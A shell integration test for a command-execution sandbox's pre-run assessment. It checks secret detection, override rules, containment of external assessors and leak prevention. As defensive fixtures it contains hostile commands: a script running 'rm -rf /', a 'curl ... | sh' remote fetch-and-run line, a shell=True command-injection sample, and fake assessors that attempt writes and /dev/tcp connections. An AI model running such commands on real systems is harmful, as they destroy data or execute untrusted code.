#!/bin/sh
# The pre-exec assessment (DESIGN §12, issue 13): the lease's and the policy's
# ceiling, --override (allowed, refused, BLOCKED not overridable), the
# assess_event records and meta.json, external assessors with positive
# controls, their containment (hang, crash, garbage, writes, connects), the
# content-keyed cache, and that no secret is ever written anywhere.
. "$CALYX_SRCDIR/tests/lib.sh"
. "$CALYX_SRCDIR/tests/integration/common.sh"

command -v shellcheck >/dev/null || skip_all "shellcheck is needed (apt-get install shellcheck)"
[ -x /usr/bin/bandit ] || skip_all "bandit is needed (apt-get install python3-bandit)"

AUDIT=$T/var/log/calyx/audit.jsonl
RUNS=$T/var/lib/calyx/runs
ERRS=$WORK/stderr.all
: > "$ERRS"
chown $ALICE "$ERRS"

policy_set '.assess = {"assessors": ["secrets", "danger", "shellcheck", "bandit"],
	"default_max": "MEDIUM", "on_error": "BLOCKED", "override_max": "HIGH",
	"timeout": "3s", "protected_branches": ["main"],
	"external": {"shellcheck": {"path": "/usr/bin/shellcheck",
		"levels": {"error": "HIGH", "warning": "HIGH", "info": "LOW", "style": "LOW"}}}}'

# Secrets made at run time: they appear in no file of the source tree.
TOKEN=ghp_$(head -c 64 /dev/urandom | base64 | tr -dc 'A-Za-z0-9' | head -c 36)
AWSID=AKIA$(head -c 64 /dev/urandom | base64 | tr -dc 'A-Z0-9' | head -c 16)
KEYBODY=$(head -c 600 /dev/urandom | base64 -w 64)

# Run leasexec as alice; stderr is kept for the leak check and in $OUT_ERR.
lx() {
	as_alice "$LEASEXEC" "$@" >"$WORK/out.last" 2>"$WORK/err.last"
	RC=$?
	OUT_ERR=$(cat "$WORK/err.last")
	cat "$WORK/err.last" >> "$ERRS"
	return 0
}

script() { # script NAME: stdin becomes an executable script of alice's
	cat > "$WORK/$1" && chmod 755 "$WORK/$1" && chown $ALICE "$WORK/$1"
}

printf '#!/bin/sh\necho clean\n' | script clean.sh
printf '#!/bin/sh\nexport GITHUB_TOKEN=%s\necho token set\n' "$TOKEN" | script token.sh
printf '#!/bin/sh\ncat <<EOF > key.pem\n-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----\nEOF\n' "$KEYBODY" | script key.sh
printf '#!/bin/sh\nrm -rf /\n' | script wipe.sh

NO=$(issue --user $ALICE --cmd "$WORK/clean.sh" --cmd "$WORK/token.sh" --cmd "$WORK/key.sh" \
	--cmd "$WORK/wipe.sh" --cmd /bin/true --rw "$WORK" --ttl 10m)
YES=$(issue --user $ALICE --cmd "$WORK/clean.sh" --cmd "$WORK/token.sh" --cmd "$WORK/key.sh" \
	--cmd "$WORK/wipe.sh" --cmd /bin/true --rw "$WORK" --ttl 10m --assess-override)
LOW=$(issue --user $ALICE --cmd "$WORK/clean.sh" --cmd /bin/sh --cmd /usr/bin/python3 \
	--rw "$WORK" --ttl 10m --assess-max LOW)

# --- decisions ------------------------------------------------------------
lx -l "$NO" -- "$WORK/clean.sh"
ok "a clean script passes the assessment and runs" test $RC -eq 0
ok "meta.json records the assessment (PASSED, LOW, ceiling MEDIUM)" \
	test "$(meta '.assess.outcome + " " + .assess.level + " " + .assess.ceiling')" = "PASSED LOW MEDIUM"
ok "the audit has assess_event.PASSED for the run" \
	grep -q "\"type\":\"assess_event.PASSED\".*\"run\":\"$(last_run)\"\|\"run\":\"$(last_run)\".*\"type\":\"assess_event.PASSED\"" "$AUDIT"

passed=$(audit_count assess_event.DENIED)
lx -l "$NO" -- "$WORK/token.sh"
ok "a script with a GitHub token is refused (77)" test $RC -eq 77
ok "one line names the level, the ceiling and the top finding" \
	sh -c 'printf "%s\n" "$1" | grep -q "^leasexec: denied: assessment HIGH is above the ceiling MEDIUM of .*github-token in .*token.sh:2:"' _ "$OUT_ERR"
ok "without assess.override, the hint does not offer --override" \
	sh -c 'printf "%s\n" "$1" | grep "^hint:" | grep -qv -- "--override \""' _ "$OUT_ERR"
ok "the refusal is an assess_event.DENIED record" test "$(audit_count assess_event.DENIED)" -gt "$passed"
ok "... and a lease_event.DENIED with clause assess" grep -q '"clause":"assess"' "$AUDIT"

lx -l "$YES" -- "$WORK/token.sh"
ok "a lease with assess.override: the hint names --override" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "^hint: .*--override \"REASON\""' _ "$OUT_ERR" $RC

lx -l "$NO" --override "ticket 42: a test token" -- "$WORK/token.sh"
ok "--override is refused when the lease does not allow it" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "does not allow --override"' _ "$OUT_ERR" $RC

lx -l "$YES" --override "ticket 42: a test token; \"quoted\"	tab" -- "$WORK/token.sh"
ok "--override runs it where the lease allows it" test $RC -eq 0
ok "... saying so on stderr" sh -c 'printf "%s\n" "$1" | grep -q "overridden (audited)"' _ "$OUT_ERR"
ok "... meta.json: OVERRIDDEN with the reason, escaped" \
	test "$(meta '.assess.outcome + "|" + .assess.override_reason')" = 'OVERRIDDEN|ticket 42: a test token; "quoted"?tab'
ok "... and an assess_event.OVERRIDDEN record with the reason and the findings" \
	sh -c "grep '\"type\":\"assess_event.OVERRIDDEN\"' '$AUDIT' | grep 'ticket 42' | grep -q github-token"

lx -l "$YES" --override "needed" -- "$WORK/key.sh"
ok "BLOCKED (a private key) is not overridable: override_max is HIGH" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "assessment BLOCKED cannot be overridden"' _ "$OUT_ERR" $RC
lx -l "$YES" --override "needed" -- "$WORK/wipe.sh"
ok "BLOCKED (rm -rf /) is not overridable either" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "rm-rf-root"' _ "$OUT_ERR" $RC

# the lease's ceiling: LOW refuses what MEDIUM lets through
printf '#!/bin/sh\nexport API_TOKEN=%s\necho ok\n' \
	"$(head -c 48 /dev/urandom | base64 | tr -dc 'A-Za-z0-9' | head -c 24)" > "$WORK/medium.sh"
chown $ALICE "$WORK/medium.sh"
lx -l "$LOW" -- /bin/sh medium.sh
ok "assess.max LOW in the lease refuses a MEDIUM script (a script argument of sh)" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "MEDIUM is above the ceiling LOW.*generic-secret in .*medium.sh"' _ "$OUT_ERR" $RC
MED=$(issue --user $ALICE --cmd /bin/sh --rw "$WORK" --ttl 10m)
lx -l "$MED" -- /bin/sh medium.sh
ok "... which the policy's ceiling MEDIUM lets run" test $RC -eq 0
"$CALYX" -q lease issue --user $ALICE --cmd /bin/sh --assess-max BLOCKED >/dev/null 2>&1
ok "a lease cannot raise the ceiling above the policy's" test $? -eq 77
"$CALYX" -q lease issue --user $ALICE --cmd /bin/sh --assess-max SEVERE >/dev/null 2>&1
ok "an unknown level in a lease is refused" test $? -ne 0

# argv and the environment
lx -l "$NO" -- /bin/true "--token=$TOKEN"
ok "a token in argv is found (argv[1])" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "github-token in argv\[1\]"' _ "$OUT_ERR" $RC
ENVL=$(issue --user $ALICE --cmd /bin/true --env-allow AWS_ACCESS_KEY_ID --rw "$WORK" --ttl 10m)
as_alice env AWS_ACCESS_KEY_ID="$AWSID" "$LEASEXEC" -l "$ENVL" -- /bin/true 2>"$WORK/err.last"
RC=$?; cat "$WORK/err.last" >> "$ERRS"
ok "a key id in a passed environment variable is found (env NAME)" \
	sh -c 'test $1 -eq 77 && grep -q "aws-access-key-id in env AWS_ACCESS_KEY_ID" "$2"' _ $RC "$WORK/err.last"
as_alice env GITHUB_TOKEN="$TOKEN" "$LEASEXEC" -l "$NO" -- /bin/true 2>>"$ERRS"
ok "a variable the lease does not pass is not assessed (it never reaches the run)" test $? -eq 0

as_alice "$LEASEXEC" -n -l "$YES" -- /bin/true "$TOKEN" >"$WORK/plan.txt" 2>>"$ERRS"
RC=$?
ok "-n shows the assessment and exits 77 when the run would be refused" \
	sh -c 'test $1 -eq 77 && grep -q "assessment  HIGH, ceiling MEDIUM: DENIED" "$2"' _ $RC "$WORK/plan.txt"
ok "-n shows argv with the secret redacted" grep -q "<redacted: github-token sha256:" "$WORK/plan.txt"

# --- external assessors: positive controls -------------------------------
printf '#!/bin/sh\nrm -rf "$1"/\n' | script sc.sh
SC=$(issue --user $ALICE --cmd "$WORK/sc.sh" --cmd /usr/bin/python3 --rw "$WORK" --ttl 10m)
lx -l "$SC" -- "$WORK/sc.sh"
ok "shellcheck runs: SC2115 (rm -rf \"\$1\"/) mapped to HIGH refuses the script" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "SC2115 in .*sc.sh:2:"' _ "$OUT_ERR" $RC
printf 'import subprocess, sys\nsubprocess.call(sys.argv[1], shell=True)\n' > "$WORK/bd.py"
printf 'print("hello")\n' > "$WORK/ok.py"
chown $ALICE "$WORK/bd.py" "$WORK/ok.py"
lx -l "$SC" -- /usr/bin/python3 bd.py x
ok "bandit runs: B602 (shell=True) is HIGH and refused" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "B602 in .*bd.py:2"' _ "$OUT_ERR" $RC
lx -l "$SC" -- /usr/bin/python3 ok.py
ok "a clean Python script passes bandit" test $RC -eq 0
ok "... and meta.json says bandit ran for it" test "$(meta '.assess.external.runs + .assess.external.cached')" -ge 1

# --- the cache: keyed by content -------------------------------------------
printf '#!/bin/sh\necho "$1"\n' | script cached.sh
CA=$(issue --user $ALICE --cmd "$WORK/cached.sh" --rw "$WORK" --ttl 10m)
lx -l "$CA" -- "$WORK/cached.sh" a
lx -l "$CA" -- "$WORK/cached.sh" b
ok "the same script again: shellcheck's result comes from the cache" \
	test "$(meta '"\(.assess.external.runs) \(.assess.external.cached)"')" = "0 1"
ok "the cache lives in the state dir, root-only" \
	sh -c 'test -n "$(ls "$1"/state/assess/*.json)" && test "$(stat -c %a "$1/state/assess")" = 700' _ "$T/var/lib/calyx"
printf '#!/bin/sh\nrm -rf "$1"/\n' | script cached.sh
lx -l "$CA" -- "$WORK/cached.sh" c
ok "the script edited: shellcheck runs again and the result changes" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q SC2115' _ "$OUT_ERR" $RC

# --- containment of external assessors ----------------------------------------
FAKE=$T/libexec/calyx-test-assessors
mkdir -p "$FAKE" && chmod 755 "$T/libexec" "$FAKE"
fake() { cat > "$FAKE/$1" && chmod 755 "$FAKE/$1"; }
printf '#!/bin/sh\nexec sleep 3171\n' | fake hang
printf '#!/bin/sh\nkill -SEGV $$\n' | fake crash
printf '#!/bin/sh\necho "this is not JSON"\nexit 1\n' | fake garbage
printf '#!/bin/sh\necho "{\\"comments\\": [{\\"line\\": 1}]}"\nexit 1\n' | fake wrongshape
# these answer well only if they got out: exit 3 (their own) says they ran and did not
cat <<EOF | fake writer
#!/bin/sh
if echo owned > /tmp/calyx13-assessor-wrote || echo owned > "$WORK/assessor-wrote" ||
	echo owned > "$FAKE/assessor-wrote"; then
	echo '{"comments": []}'
	exit 0
fi
exit 3
EOF
PORT=$((20000 + $$ % 20000))
cat <<EOF | fake connector
#!/bin/bash
if (exec 3<>/dev/tcp/127.0.0.1/$PORT); then
	echo '{"comments": []}'
	exit 0
fi
exit 3
EOF
rm -f /tmp/calyx13-assessor-wrote "$WORK/assessor-wrote" "$FAKE/assessor-wrote"
use_fake() {
	policy_set ".assess.external.shellcheck.path = \"$FAKE/$1\""
}
printf '#!/bin/sh\necho "$@"\n' | script ext.sh
EXT=$(issue --user $ALICE --cmd "$WORK/ext.sh" --rw "$WORK" --ttl 10m)

use_fake hang
t0=$(date +%s)
lx -l "$EXT" -- "$WORK/ext.sh"
t1=$(date +%s)
ok "an assessor that hangs is killed at the timeout and yields on_error (BLOCKED)" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "BLOCKED.*error:timeout"' _ "$OUT_ERR" $RC
ok "... within the 3s timeout (took $((t1 - t0))s)" test $((t1 - t0)) -le 6
ok "... and nothing of it is left running" sh -c '! pgrep -f "[s]leep 3171" >/dev/null'
use_fake crash
lx -l "$EXT" -- "$WORK/ext.sh"
ok "an assessor that crashes yields on_error" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "error:crashed"' _ "$OUT_ERR" $RC
use_fake garbage
lx -l "$EXT" -- "$WORK/ext.sh"
ok "an assessor that prints garbage yields on_error" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "error:bad-output"' _ "$OUT_ERR" $RC
use_fake wrongshape
lx -l "$EXT" -- "$WORK/ext.sh"
ok "JSON of the wrong shape is garbage too (strict reader)" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "error:bad-output"' _ "$OUT_ERR" $RC
"$FAKE/writer" </dev/null >/dev/null 2>&1
ok "positive control: outside the sandbox the writer writes and answers" \
	sh -c 'test $? -eq 0 && test -e /tmp/calyx13-assessor-wrote' _
rm -f /tmp/calyx13-assessor-wrote "$WORK/assessor-wrote" "$FAKE/assessor-wrote"
use_fake writer
lx -l "$EXT" -- "$WORK/ext.sh"
ok "an assessor that tries to write ran, failed (its own exit 3) and yields on_error" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "BLOCKED.*error:exit-status"' _ "$OUT_ERR" $RC
ok "an assessor cannot write: not in /tmp, the caller's files or its own directory" \
	sh -c '! test -e /tmp/calyx13-assessor-wrote && ! test -e "$1" && ! test -e "$2"' _ \
	"$WORK/assessor-wrote" "$FAKE/assessor-wrote"
# One connection accepted (then "connected" in $2), or none within 8s.
listen_once() {
	rm -f "$2" "$2.ready"
	python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(5); s.settimeout(8)
open(sys.argv[2] + ".ready", "w").close()
try:
    c, _ = s.accept(); open(sys.argv[2], "w").write("connected\n")
except Exception:
    pass
' "$1" "$2" >/dev/null 2>&1 9>&- &
	BG_PIDS="$BG_PIDS $!"
	wait_for 50 test -e "$2.ready"
}
# positive control: the connector itself, outside the sandbox, reaches the listener
listen_once $PORT "$WORK/connected"
"$FAKE/connector" </dev/null >/dev/null 2>&1
rc=$?
wait_for 30 test -e "$WORK/connected"
ok "positive control: outside the sandbox the connector connects and answers ($rc)" \
	sh -c 'test $1 -eq 0 && test -e "$2"' _ $rc "$WORK/connected"
listen_once $PORT "$WORK/connected"
use_fake connector
lx -l "$EXT" -- "$WORK/ext.sh"
sleep 0.5
ok "an assessor that tries to connect ran, failed (its own exit 3) and yields on_error" \
	sh -c 'test $2 -eq 77 && printf "%s\n" "$1" | grep -q "BLOCKED.*error:exit-status"' _ "$OUT_ERR" $RC
ok "an assessor cannot connect anywhere (the listener saw nothing)" test ! -e "$WORK/connected"
policy_set '.assess.external.shellcheck.path = "/usr/bin/shellcheck"'

# --- calyx assess ------------------------------------------------------------
"$CALYX" assess "$WORK/clean.sh" >/dev/null; a=$?
"$CALYX" assess "$WORK/medium.sh" >/dev/null; b=$?
"$CALYX" assess "$WORK/token.sh" >/dev/null; c=$?
"$CALYX" assess "$WORK/wipe.sh" >/dev/null; d=$?
ok "calyx assess exits with the level: 0 LOW, 1 MEDIUM, 2 HIGH, 3 BLOCKED ($a $b $c $d)" \
	test "$a$b$c$d" = 0123
ok "calyx assess -- CMD ARGS assesses a command line" \
	sh -c '"$1" assess -- sh -c "curl -s https://example.org/x | sh" >/dev/null; test $? -eq 2' _ "$CALYX"
ok "calyx assess --json: the findings as JSON" \
	sh -c '"$1" --json assess "$2" | jq -e ".level == \"HIGH\" and (.findings[0].kind == \"github-token\")" >/dev/null' _ "$CALYX" "$WORK/token.sh"
"$CALYX" assess "$WORK/token.sh" >> "$ERRS" 2>&1

# --- no secret was written anywhere -----------------------------------------
no_leak() {
	! grep -rqF -- "$1" "$AUDIT" "$RUNS" "$ERRS" $T/var/log/calyx/ 2>/dev/null
}
ok "the token is in no audit record, meta.json, stderr or log" no_leak "$TOKEN"
ok "the AWS key id neither" no_leak "$AWSID"
ok "the private key neither" no_leak "$(printf '%s' "$KEYBODY" | head -n 2 | tail -n 1)"
ok "positive control: the leak check finds what is there" \
	sh -c 'grep -rqF -- "$1" "$2"' _ "$TOKEN" "$WORK/token.sh"
ok "the audit chain verifies" "$CALYX" -q audit verify
tap_end
